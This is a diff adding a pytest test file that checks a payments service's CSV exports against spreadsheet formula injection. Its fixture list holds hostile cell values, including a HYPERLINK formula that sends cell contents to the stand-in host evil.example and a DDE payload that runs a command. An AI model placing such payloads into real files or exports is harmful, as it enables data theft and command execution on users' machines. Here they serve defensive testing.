@@ -1,0 +1,47 @@
+"""Exports can't carry spreadsheet formulas: every download goes through services/exports.py."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from services.audit import AuditFilter, AuditLog
+from services.auth.roles import Actor, Role
+from services.desk import BillingDesk
+from services.exports import csv_bytes, neutralise
+from services.payments.client import PaymentsClient
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
+            "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_a_cell_that_starts_a_formula_is_prefixed(cell: str) -> None:
+    assert neutralise(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["org_abc123", "Acme = fine", "a-b", "", "café", 5, -3.5, None])
+def test_other_cells_are_unchanged(cell: object) -> None:
+    assert neutralise(cell) == cell
+
+
+def test_csv_neutralises_text_but_keeps_numbers_and_the_frame() -> None:
+    frame = pd.DataFrame({"name": FORMULAS, "price": [-1.5] * len(FORMULAS)})
+    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode(), newline="")))
+    assert all(row["name"].startswith("'") for row in rows)
+    assert {row["price"] for row in rows} == {"-1.5"}  # a number stays a number
+    assert list(frame.name) == FORMULAS  # what the screen shows is unchanged
+
+
+def test_the_audit_download_of_a_hostile_login_name_is_inert(client: PaymentsClient, tmp_path: Path) -> None:
+    audit = AuditLog(f"sqlite:///{tmp_path / 'audit.sqlite3'}")
+    audit.record(user=FORMULAS[0], role="unknown", action="login locked", organization_id="=1+1", outcome="denied",
+                 error="@evil", reason="-reason")
+    exported = BillingDesk(client, audit).audit_csv(Actor("fay", Role.FINANCE), AuditFilter())
+    [row] = list(csv.DictReader(io.StringIO(exported.decode())))
+    assert row["user"] == "'" + FORMULAS[0]
+    assert (row["organization_id"], row["error"], row["reason"]) == ("'=1+1", "'@evil", "'-reason")
